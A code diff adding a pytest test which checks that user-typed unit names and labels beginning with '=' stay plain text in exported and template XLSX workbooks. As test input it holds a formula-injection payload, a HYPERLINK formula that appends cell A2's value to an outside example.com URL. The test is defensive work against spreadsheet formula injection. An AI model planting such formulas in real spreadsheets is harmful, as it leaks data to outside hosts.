@@ -252,6 +252,28 @@ def test_a_report_text_that_looks_like_a_formula_stays_text_in_the_template(clie
     assert response.status_code == 200 and response.context["result"].ok, response.context["result"].errors
 
 
+def test_a_unit_name_or_label_that_looks_like_a_formula_stays_text_in_every_xlsx(world, program, period):
+    """The issuing body (A1 of every exported sheet), the template's title and its headers are
+    names people typed: one starting with "=" must not become a formula either."""
+    from exports.models import Kind
+    from exports.writers import WRITERS
+
+    formula = '=HYPERLINK("http://example.com/?"&A2,"Xem")'
+    world.long_xuyen.name = formula
+    world.long_xuyen.save(update_fields=["name"])
+    element = program.data_elements.get(code="workers")
+    element.label = "=1+2"
+    element.save(update_fields=["label"])
+    exported = load_workbook(io.BytesIO(WRITERS["xlsx"].write(
+        build_document(program, world.long_xuyen, Kind.YEARLY, 2024))))
+    template = load_workbook(io.BytesIO(build_template(period, world.long_xuyen)))
+    for book in (exported, template):
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert all(ws["A1"].value == formula.upper() for ws in exported.worksheets)
+    assert "=1+2" in [c.value for c in template[SHEET][3]]
+
+
 def test_control_characters_are_dropped_so_the_template_can_be_built(client, world, program, period):
     add_elements(program)
     login(client, world.reporter)
